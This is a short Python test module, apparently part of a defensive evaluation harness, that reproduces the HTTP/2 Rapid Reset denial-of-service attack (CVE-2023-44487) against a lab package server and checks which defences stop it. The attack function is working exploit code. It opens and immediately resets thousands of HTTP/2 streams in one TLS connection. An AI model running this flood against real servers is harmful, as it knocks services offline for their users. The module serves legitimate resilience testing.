"""A stream that is taken back at once costs the server, and not the client."""

from typing import Any

from space_evaluate import inside
from space_evaluate.inside import Case
from space_evaluate.technique import Technique

TECHNIQUE = Technique(
    tries="Open and reset streams by the thousand.",
    claim="E3",
    defences=("parser strictness: HTTP/2",),
    stopped_by=("http2_flood", "flood", "http2_"),
    source="CVE-2023-44487",
    quick=True,
    seconds=30.0,
)


def attack(case: Case, what: Any) -> None:
    case.tls(
        case.ground.packages,
        inside.PREFACE
        + b"".join(
            inside.h2_request(case.ground.packages, f"/simple/{case.token}/", stream=at)
            + inside.h2_frame(inside.RST_STREAM, bytes(4), stream=at)
            for at in range(1, 6000, 2)
        ),
        alpn=["h2"],
        until=lambda got: b"\x07\0\0\0\0\0" in got,
    )
